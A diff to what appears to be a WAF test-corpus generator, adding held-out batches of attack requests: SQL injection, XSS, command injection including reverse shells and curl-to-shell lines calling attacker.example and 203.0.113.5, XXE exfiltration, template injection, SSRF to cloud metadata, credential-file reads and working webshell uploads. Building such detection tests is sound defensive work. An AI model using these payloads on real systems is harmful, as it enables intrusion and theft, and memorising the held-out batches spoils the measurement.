@@ -222,6 +222,17 @@ def sqli():
         C("/dashboard", "remember_me=YWRtaW4%3D; user_id=5%27%20or%20%27x%27%3D%27x"),
         M("/upload/meta", [("title", "holiday"), ("album_id", "3 UNION SELECT 1,2,3,4--")]),
         J("/api/v1/users", {"email": "x@example.com'); DELETE FROM users; --", "name": "Li Lei"}, method="PATCH"),
+        # no spaces at all, parentheses and HTTP parameter pollution
+        Q("/products", "id", "1'and(1)=(1)--"),
+        Q("/products", "id", "1 uNIoN(sElEcT 1,2,3)"),
+        Q("/products", "id", "-1'union(select(1),(user()),(3))#"),
+        RQ("/products", "id=1&id=%27%20OR%20%27x%27%3D%27x"),
+        RQ("/products", "id=1%27/*&sort=*/UNION/*&page=*/SELECT%20password%20FROM%20users--"),
+        J("/api/v1/search", None, raw='{"filters":{"name\' OR 1=1--":"x"},"page":1}'),
+        J("/api/v1/bulk", {"ids": [1, 2, "3) OR (SELECT 1 FROM users WHERE id=1)=(1"]}),
+        Q("/products", "id", "1e0union select 1,2"),
+        Q("/products", "id", "1 AND 1=1 -- -", e=lambda p: p.replace(" ", "+")),
+        C("/orders", "sort=id%20DESC%3B%20SELECT%20pg_sleep(5)--; sid=ab12"),
     ]
 
 
@@ -344,6 +355,14 @@ def xss():
         Q("/page", "x", "<embed src=javascript:alert(1)>"),
         Q("/page", "x", "<a onmouseover=alert(1)>x</a>"),
         Q("/callback", "jsonp", "alert(document.cookie);//"),
+        Q("/page", "x", "<img src=x oNeRrOr=alert(1)>"),
+        Q("/page", "x", '<a href="javascript&colon;alert(1)">x</a>'),
+        Q("/page", "x", "<iframe src=&#x6A;avascript:alert(1)>"),
+        RQ("/page", "x=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E"),
+        Q("/page", "x", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
+        J("/api/v1/settings", None, raw='{"<img src=x onerror=alert(1)>":"1","theme":"dark"}'),
+        RQ("/page", "x=safe&x=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
+        F("/post", "content", "<p>hello</p><img src=\"x\" onerror=\"this.src='//attacker.example/?c='+document.cookie\">"),
     ]
 
 
@@ -404,6 +423,11 @@ def cmdi():
         Q("/tools/whois", "d", "example.com | tee /tmp/o; /bin/cat /etc/hosts"),
         M("/admin/plugins", [("name", "x"), ("cmd", "ls; id; cat /etc/issue")]),
         Q("/tools/ping", "host", "127.0.0.1 | i''d"),
+        Q("/tools/ping", "host", "127.0.0.1;c\\at /etc/passwd"),
+        Q("/tools/ping", "host", "127.0.0.1;{ls,-la,/}"),
+        Q("/tools/ping", "host", "127.0.0.1;cat</etc/passwd"),
+        Q("/tools/ping", "host", "127.0.0.1;/usr/bin/id", e=uenc),
+        J("/api/v1/diag", {"target": "1.1.1.1", "opts": ["-c", "1", "; wget http://attacker.example/b -O /tmp/b"]}),
     ]
 
 
@@ -768,13 +792,15 @@ def scanner():
 
 
 # ----------------------------------------------------------------- protocol
-def protocol():
-    def with_headers(method, path, extra, body="", query="", drop=()):
-        h = headers(ua=ua(), extra=extra)
-        for d in drop:
-            h.pop(d, None)
-        return req(method, path, query, h, body)
+def with_headers(method, path, extra, body="", query="", drop=()):
+    """A request with its headers given (and some dropped) as they are."""
+    h = headers(ua=ua(), extra=extra)
+    for d in drop:
+        h.pop(d, None)
+    return req(method, path, query, h, body)
 
+
+def protocol():
     chunk = "5\r\nhello\r\n0\r\n\r\n"
     return [
         with_headers("POST", "/api/v1/orders", {"Content-Length": "4", "Transfer-Encoding": "chunked",
@@ -823,6 +849,326 @@ def protocol():
     ]
 
 
+# ------------------------------------------------------------------ batch 2
+# Written after the engine had been tuned on batch 1 and measured on these
+# before they were committed (docs/PERFORMANCE.md, "WAF inspection"): a
+# held-out check of how the engine does on attacks it was not tuned on.
+def sqli2():
+    return [
+        Q("/api/goods", "cid", "1 and (select count(*) from information_schema.columns A, "
+          "information_schema.columns B)"),
+        Q("/news", "id", "1' and (select 1 from(select count(*),concat((select database()),floor(rand(0)*2))x "
+          "from information_schema.tables group by x)a)-- "),
+        Q("/q", "name", "admin' and length(password)>8-- "),
+        Q("/q", "id", "1;select case when substring(current_user,1,1)='p' then pg_sleep(3) else pg_sleep(0) end--"),
+        Q("/q", "id", "1 and 1=dbms_utility.sqlid_to_sqlhash((select banner from v$version where rownum=1))"),
+        F("/account/login", "email", "test@example.com' AND 1=(SELECT 1 FROM users WHERE email LIKE '%admin%')#"),
+        J("/api/v2/reports", {"groupBy": "region, (select password from admins limit 1)", "metric": "gmv"}),
+        Q("/list", "limit", "10 PROCEDURE ANALYSE()"),
+        Q("/list", "offset", "0 union all select null,null,concat(user,0x3a,authentication_string) from mysql.user"),
+        C("/", "pref=1'+AND+ExtractValue(0,CONCAT(0x5c,(SELECT+@@hostname)))--+; sid=77aa"),
+        H("/api/v1/items", "X-Tenant", "acme' UNION SELECT api_key FROM tenants--"),
+        P("/api/v1/users/5%27%20AND%20%27a%27%3D%27a"),
+        M("/apply", [("position", "dev"), ("years", "3 or 1=1 order by 5--")]),
+        Q("/q", "id", "1'; copy (select '') to program 'id'--"),
+        Q("/q", "q", "x' UNION SELECT NULL, LOAD_FILE(CONCAT('\\\\\\\\', (SELECT password FROM users LIMIT 1), "
+          "'.attacker.example\\\\a'))-- "),
+        Q("/q", "id", "1' AND 1=CAST((SELECT table_name FROM information_schema.tables LIMIT 1) AS INT)--"),
+    ]
+
+
+def xss2():
+    return [
+        Q("/s", "q", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
+          "<image href='1' onerror='alert(1)' /></svg>#x\" />"),
+        Q("/s", "q", "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>"),
+        Q("/s", "q", "<video src=_ onloadstart=\"alert(1)\">"),
+        Q("/s", "q", "<body onhashchange=alert(1)><a href=#x>click</a>"),
+        F("/profile", "website", "https://example.com\" onmouseover=\"alert(document.cookie)"),
+        Q("/s", "q", "<script>import('https://attacker.example/x.mjs')</script>"),
+        Q("/s", "q", "';window.onerror=alert;throw 1;//"),
+        Q("/s", "q", "<img src=x onerror=eval(location.hash.slice(1))>"),
+        J("/api/v1/notes", {"title": "hi", "content": "<p onpointerenter=alert(1)>move here</p>"}),
+        RQ("/s", "q=%3Ca%20href%3D%22%01javascript:alert(1)%22%3Ex%3C/a%3E"),
+        Q("/s", "q", "<svg onload=alert(1)//", e=dbl),
+        Q("/s", "q", "<input type=image src=x onerror=alert(1)>"),
+        Q("/redirect", "next", "jAvAsCrIpT:alert(document.domain)"),
+        M("/forum/post", [("subject", "hello"), ("body", "nice<details ontoggle=fetch('//attacker.example/'+"
+                                                         "document.cookie) open>")]),
+    ]
+
+
+def cmdi2():
+    return [
+        Q("/api/thumb", "size", "100x100; curl -d @/etc/passwd http://attacker.example/"),
+        F("/admin/backup", "filename", "db.sql; nc 203.0.113.5 9001 < /etc/shadow"),
+        Q("/tools/git", "repo", "https://github.com/x/y.git --upload-pack='touch /tmp/pwn'"),
+        Q("/tools/ping", "host", "127.0.0.1 `wget -q -O- attacker.example/x.sh|sh`"),
+        J("/api/v1/jobs", {"cron": "* * * * *", "command": "bash -c 'sh -i >& /dev/tcp/203.0.113.5/443 0>&1'"}),
+        F("/win/exec", "file", "report.docx & powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdA"),
+        Q("/tools/ping", "host", "127.0.0.1\nsh -c 'id'"),
+        Q("/tools/ping", "host", "$(printf 'Y2F0IC9ldGMvcGFzc3dk'|base64 -d|sh)"),
+        Q("/img", "f", "x.jpg|/usr/bin/env python3 -c 'import os;os.system(\"id\")'"),
+    ]
+
+
+def lfi2():
+    return [
+        RQ("/read", "f=..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts"),
+        Q("/read", "f", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
+        Q("/read", "f", "../../.env"),
+        Q("/read", "f", "../../../../home/ubuntu/.bash_history"),
+        P("/static/%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini"),
+        J("/api/v1/templates/render", {"name": "/proc/1/environ"}),
+        Q("/index.php", "p", "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd"),
+        Q("/image", "path", "..././..././..././etc/passwd"),
+    ]
+
+
+def rfi_ssrf2():
+    return [
+        Q("/fetch", "url", "http://[::ffff:a9fe:a9fe]/latest/meta-data/"),
+        J("/api/v1/import", {"source_url": "http://localhost:9200/_search?q=*"}),
+        Q("/pdf", "url", "http://127.0.0.1:10250/pods"),
+        Q("/fetch", "url", "http://0/"),
+        Q("/img", "src", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
+        Q("/index.php", "inc", "hTtP://attacker.example/sh.txt?"),
+        Q("/fetch", "url", "http://metadata.tencentyun.com/latest/meta-data/"),
+        M("/profile/import", [("type", "vcard"), ("url", "http://127.0.0.1:8500/v1/kv/?recurse")]),
+    ]
+
+
+def xxe2():
+    pre = '<?xml version="1.0"?>\n'
+    return [
+        XML("/api/xml/po", pre + "<!DOCTYPE po [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><po><n>&x;</n></po>"),
+        XML("/api/xml/po", pre + '<!DOCTYPE data SYSTEM "http://attacker.example/ext.dtd"><data>1</data>'),
+        XML("/api/xml/po", pre + '<!DOCTYPE d [<!ENTITY % start "<![CDATA["><!ENTITY % file SYSTEM '
+            '"file:///etc/fstab"><!ENTITY % end "]]>"><!ENTITY % dtd SYSTEM "http://attacker.example/join.dtd">'
+            '%dtd;]><d>&all;</d>'),
+        J("/api/v1/soap-proxy", {"envelope": pre + '<!DOCTYPE s [<!ENTITY % x SYSTEM "http://attacker.example/s.dtd">'
+                                 '%x;]><s/>'}),
+        M("/tracks/upload", [("name", "morning run"), ("gpx", pre + '<!DOCTYPE gpx [<!ENTITY t SYSTEM '
+                              '"file:///etc/hostname">]><gpx version="1.1"><trk><name>&t;</name></trk></gpx>',
+                              "run.gpx", "application/gpx+xml")]),
+        XML("/pay/notify", '<!DOCTYPE xml [<!ENTITY a SYSTEM "file:///etc/passwd">]><xml><appid>&a;</appid></xml>',
+            ctype="text/xml"),
+    ]
+
+
+def ssti2():
+    return [
+        Q("/hello", "name", "{{namespace.__init__.__globals__.os.popen('id').read()}}"),
+        Q("/hello", "name", "{{get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read()}}"),
+        Q("/hello", "name", "${\"\".getClass().forName(\"java.lang.Runtime\").getMethods()[6].invoke(null)."
+          "exec(\"id\")}"),
+        Q("/hello", "name", "{{ joiner.__init__.__globals__.os.system('id') }}"),
+        F("/mail/preview", "tpl", "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}"),
+        H("/", "Referer", "${jndi:ldaps://attacker.example:636/x}"),
+        J("/api/v1/greet", {"msg": "#{''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}"}),
+    ]
+
+
+def webshell2():
+    shells = [
+        ("thumb.php", "image/png", "<?php $x=str_rot13('flfgrz');$x($_GET['q']);?>"),
+        ("inc.php", "text/plain", "<?php @include($_FILES['f']['tmp_name']); ?>"),
+        ("status.jsp", "text/plain", "<%@page import=\"java.lang.reflect.*\"%><% Class c=Class.forName("
+         "\"java.lang.Runtime\"); Method m=c.getMethod(\"exec\",String.class); m.invoke(c.getMethod(\"getRuntime\")"
+         ".invoke(null),request.getParameter(\"x\")); %>"),
+        ("help.aspx", "text/plain", "<%@ Page Language=\"C#\"%><%@ Import Namespace=\"System.Diagnostics\"%>"
+         "<script runat=\"server\">void Page_Load(object s, EventArgs e){Process p=new Process();p.StartInfo."
+         "FileName=\"cmd.exe\";p.StartInfo.Arguments=\"/c \"+Request.QueryString[\"c\"];p.StartInfo."
+         "UseShellExecute=false;p.StartInfo.RedirectStandardOutput=true;p.Start();Response.Write(p."
+         "StandardOutput.ReadToEnd());}</script>"),
+        ("avatar.php.jpg", "image/jpeg", "\u00ff\u00d8\u00ff\u00e1Exif<?php echo passthru($_GET['c']); ?>"),
+        ("x.py", "text/x-python", "#!/usr/bin/env python3\nimport os, cgi\nprint('Content-Type: text/plain\\n')\n"
+         "os.system(cgi.FieldStorage().getvalue('c'))\n"),
+    ]
+    return [M("/upload", [("name", f), ("file", body, f, ctype)],
+              boundary="----WebKitFormBoundaryB2%014d" % (i * 104729)) for i, (f, ctype, body) in enumerate(shells)]
+
+
+def scanner2():
+    return [
+        H("/login", "User-Agent", "sqlmap/1.8#stable (https://sqlmap.org)", query="user=a"),
+        H("/", "User-Agent", "httpx - Open-source project (github.com/projectdiscovery/httpx)"),
+        H("/", "User-Agent", "Mozilla/5.0 SF/2.10b"),
+        H("/", "User-Agent", "Havij"),
+        H("/", "User-Agent", "Vega/1.0"),
+        P("/.git/logs/HEAD"),
+        P("/config/database.yml"),
+        P("/wp-content/debug.log"),
+        P("/_profiler/phpinfo"),
+        P("/.vscode/sftp.json"),
+    ]
+
+
+def protocol2():
+    return [
+        with_headers("GET", "/", {"Upgrade": "h2c", "HTTP2-Settings": "AAMAAABkAARAAAAAAAIAAAAA",
+                                  "Connection": "Upgrade, HTTP2-Settings"}),
+        with_headers("POST", "/login", {"Content-Type": "application/x-www-form-urlencoded; charset=ibm037",
+                                        "Content-Length": "13"}, "\u00a4\u00a2\u0085\u0099~\u0081P\u0097\u0081"
+                     "\u00a2\u00a2~\u0082"),
+        with_headers("POST", "/api", {"Content-Length": "+12"}, "hello world!"),
+        with_headers("POST", "/api", {"Content-Length": "1e3"}, "x"),
+        with_headers("GET", "/", {"X-A\u0001b": "1"}),
+        with_headers("POST", "/api", {"Transfer-Encoding": "identity, chunked", "Content-Length": "5"},
+                     "0\r\n\r\n"),
+    ]
+
+
+BATCH2 = {"sqli": sqli2, "xss": xss2, "cmdi": cmdi2, "lfi": lfi2, "rfi_ssrf": rfi_ssrf2, "xxe": xxe2,
+          "ssti": ssti2, "webshell": webshell2, "scanner": scanner2, "protocol": protocol2}
+
+
+# ------------------------------------------------------------------ batch 3
+# Held out like batch 2: written after the engine had been tuned on batches 1
+# and 2, measured before commit.
+def sqli3():
+    return [
+        Q("/api/products", "price_min", "0 or sleep(5)"),
+        Q("/search", "q", "'; select usename, passwd from pg_shadow --"),
+        F("/login", "username", "';SHUTDOWN WITH NOWAIT;--", [("password", "x")]),
+        Q("/report", "col", "1,(select(@)from(select(@:=0x00),(select(@)from(information_schema.columns)where(@)in"
+          "(@:=concat(@,0x3c62723e,table_name,0x3a,column_name))))@)"),
+        RQ("/item", "id=1%23%0aunion%23%0aselect%201,2"),
+        Q("/item", "id", "1 and 1=1 union select 1,group_concat(schema_name) from information_schema.schemata-- -",
+          e=uenc),
+        H("/", "X-Forwarded-For", "1.1.1.1', (select sleep(5)))#"),
+        Q("/item", "id", "1 and exp(~(select * from (select user())a))"),
+        Q("/item", "id", "1 and st_latfromgeohash((select version()))"),
+        M("/contact", [("name", "a"), ("msg", "hello'); exec sp_configure 'show advanced options',1;--")]),
+        J("/graphql", {"query": "query { users(where: \"1=1; DROP TABLE users\") { id } }"}),
+        Q("/sort", "dir", "asc, if(ascii(substr(database(),1,1))>100,sleep(2),0)"),
+        C("/", "tracking_id=x' AND (SELECT 8000 FROM (SELECT(SLEEP(5)))a)-- ; lang=en"),
+        Q("/item", "id", "iif(1=1,1,1/0)"),
+    ]
+
+
+def xss3():
+    return [
+        Q("/s", "q", "<svg><animatetransform onbegin=alert(1) attributeName=transform>"),
+        Q("/s", "q", "<math href=\"javascript:alert(1)\">click</math>"),
+        Q("/s", "q", "<form><button formaction=javascript&colon;alert(1)>x"),
+        F("/comment", "body", "<a href=\"https://ok.example\" style=\"position:fixed;top:0;left:0;width:100%;"
+          "height:100%\" onmouseover=\"alert(1)\">"),
+        Q("/s", "q", "<img src=x onerror=Function('al'+'ert(1)')()>"),
+        Q("/s", "q", "<svg/onload=location=`javas`+`cript:ale`+`rt%2`+`81%2`+`9`;//"),
+        H("/", "Referer", "javascript:alert(document.cookie)"),
+        Q("/s", "q", "<sCrIpT sRc=//attacker.example/x></sCrIpT>"),
+        Q("/s", "q", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
+        J("/api/v1/chat/send", {"to": 1, "text": "hi <iframe src=//attacker.example/phish width=0 height=0></iframe>"}),
+        Q("/s", "q", "\"><img src=x id=dmFyIGE9ZG9jdW1lbnQuY3JlYXRlRWxlbWVudCgic2NyaXB0Iik7 onerror=eval(atob(this.id))>"),
+    ]
+
+
+def cmdi3():
+    return [
+        Q("/api/dns", "name", "example.com;getent passwd"),
+        J("/api/v1/convert", {"input": "a.svg", "args": "-density 300 | bash -c 'curl attacker.example/x|sh'"}),
+        F("/tools/zip", "name", "out.zip -T -TT 'sh -c id'"),
+        Q("/tools/ping", "host", "127.0.0.1 ; /bin/sh -c \"$(curl -fsSL attacker.example/i)\""),
+        Q("/win/ping", "host", "127.0.0.1 | whoami /all"),
+        Q("/tools/tar", "file", "--checkpoint=1 --checkpoint-action=exec=sh shell.sh"),
+        Q("/tools/ping", "host", "127.0.0.1&&c^m^d /c whoami"),
+        H("/cgi-bin/status", "Cookie", "() { :;}; /bin/bash -i >& /dev/tcp/203.0.113.5/8080 0>&1"),
+    ]
+
+
+def lfi3():
+    return [
+        Q("/download", "file", "../../../../../../../../var/lib/mysql/mysql/user.MYD"),
+        Q("/download", "file", "C:\\Windows\\repair\\sam"),
+        J("/api/v1/logs", {"file": "../../../../../../root/.aws/credentials"}),
+        Q("/view", "page", "/usr/local/tomcat/conf/tomcat-users.xml"),
+        P("/resources/%c0%ae%c0%ae/%c0%ae%c0%ae/WEB-INF/web.xml"),
+        Q("/index.jsp", "page", "/WEB-INF/classes/application.properties"),
+        Q("/read", "f", "....//....//....//proc/self/status"),
+    ]
+
+
+def rfi_ssrf3():
+    return [
+        Q("/fetch", "url", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
+        Q("/fetch", "url", "http://instance-data/latest/meta-data/"),
+        Q("/fetch", "url", "http://127.0.0.1:2379/v2/keys/?recursive=true"),
+        J("/api/v1/avatar", {"url": "http://0x7f.0x0.0x0.0x1:6379/"}),
+        Q("/fetch", "url", "https://127.0.0.1.nip.io:8443/admin"),
+        Q("/index.php", "page", "//attacker.example/shell.txt?"),
+        F("/feeds/add", "feed_url", "file:///etc/passwd"),
+        Q("/fetch", "url", "http://[0:0:0:0:0:0:0:1]:3306/"),
+    ]
+
+
+def xxe3():
+    pre = '<?xml version="1.0" encoding="UTF-8"?>\n'
+    return [
+        XML("/api/xml/in", pre + "<!DOCTYPE r [<!ENTITY % x SYSTEM \"file:///etc/passwd\"><!ENTITY % y \"<!ENTITY "
+            "&#x25; z SYSTEM 'http://attacker.example/?%x;'>\">%y;%z;]><r/>"),
+        M("/import/sheet", [("file", pre + "<!DOCTYPE Types [<!ENTITY x SYSTEM 'http://attacker.example/ct'>]>"
+                              "<Types>&x;</Types>", "[Content_Types].xml", "application/xml")]),
+        XML("/api/xml/in", "\ufeff" + pre + '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/group">]><a>&b;</a>'),
+        XML("/api/xml/in", pre + '<!DOCTYPE m [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]>'
+            '<m>&x;</m>'),
+    ]
+
+
+def ssti3():
+    return [
+        Q("/hello", "name", "{{''.__class__.__bases__[0].__subclasses__()[59].__init__.func_globals.linecache.os."
+          "popen('ls').read()}}"),
+        Q("/hello", "name", "{% import os %}{{ os.popen('id').read() }}"),
+        F("/tpl", "t", "<%= File.open('/etc/passwd').read %>"),
+        Q("/hello", "name", "#{T(java.lang.Runtime).getRuntime().exec(new String[]{'sh','-c','id'})}"),
+        Q("/hello", "name", "{{request.environ}}"),
+        H("/", "X-Forwarded-For", "${jndi:rmi://203.0.113.5:1099/obj}"),
+        Q("/search", "q", "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}"),
+    ]
+
+
+def webshell3():
+    shells = [
+        ("cfg.php", "text/plain", "<?php $c=$_COOKIE['c'];if($c){@eval(base64_decode($c));} ?>"),
+        ("upload.phtml", "text/plain", "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_POST['p']); ?>"),
+        ("404.php", "text/plain", "<?php http_response_code(404); if(md5($_GET['k'])=="
+         "'e10adc3949ba59abbe56e057f20f883e'){eval($_POST['x']);} ?>"),
+        ("shell.cer", "application/x-x509-ca-cert", "<%eval request(\"z\")%>"),
+        ("readme.jsp", "text/plain", "<%= new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter(\"q\"))"
+         ".getInputStream()).next() %>"),
+        ("ma.php", "text/plain", "<?php ${'_'.'GET'}['f'](${'_'.'GET'}['c']); ?>"),
+    ]
+    return [M("/api/v1/files", [("file", body, f, ctype)], boundary="----geckoformboundary%020d" % (i * 7))
+            for i, (f, ctype, body) in enumerate(shells)]
+
+
+def scanner3():
+    return [
+        H("/", "User-Agent", "Wapiti/3.0.4 (wapiti-scanner.github.io)"),
+        P("/.git/index"),
+        P("/www.tar.gz"),
+        P("/web.rar"),
+        P("/.bash_history"),
+        P("/debug/pprof/"),
+        P("/druid/index.html"),
+        P("/.idea/workspace.xml"),
+    ]
+
+
+def protocol3():
+    return [
+        with_headers("POST", "/api", {"Content-Length": "5", "Content-Length ": "6"}, "hello"),
+        with_headers("POST", "/api", {"Transfer-Encoding": "chunked", "Transfer-encoding": "identity"},
+                     "0\r\n\r\n"),
+        with_headers("GET", "/", {"X-Original-URL": "/admin/users/delete?id=1"}),
+    ]
+
+
+BATCH3 = {"sqli": sqli3, "xss": xss3, "cmdi": cmdi3, "lfi": lfi3, "rfi_ssrf": rfi_ssrf3, "xxe": xxe3,
+          "ssti": ssti3, "webshell": webshell3, "scanner": scanner3, "protocol": protocol3}
+
+
 CATEGORIES = [("sqli", sqli), ("xss", xss), ("cmdi", cmdi), ("lfi", lfi), ("rfi_ssrf", rfi_ssrf),
               ("xxe", xxe), ("ssti", ssti), ("webshell", webshell), ("scanner", scanner),
               ("protocol", protocol)]
@@ -830,8 +1176,14 @@ CATEGORIES = [("sqli", sqli), ("xss", xss), ("cmdi", cmdi), ("lfi", lfi), ("rfi_
 
 def main():
     out = sys.argv[1] if len(sys.argv) > 1 else OUT
-    for name, fn in CATEGORIES:
-        reqs = fn()
+    # Batch 1 first, for all files, then batch 2, then 3: each batch's User-Agent
+    # rotation stays what it was when it was measured.
+    first = [(name, fn()) for name, fn in CATEGORIES]
+    for name, reqs in first:
+        reqs += BATCH2[name]()
+    for name, reqs in first:
+        reqs += BATCH3[name]()
+    for name, reqs in first:
         seen = set()
         for r in reqs:
             key = json.dumps(r, sort_keys=True)
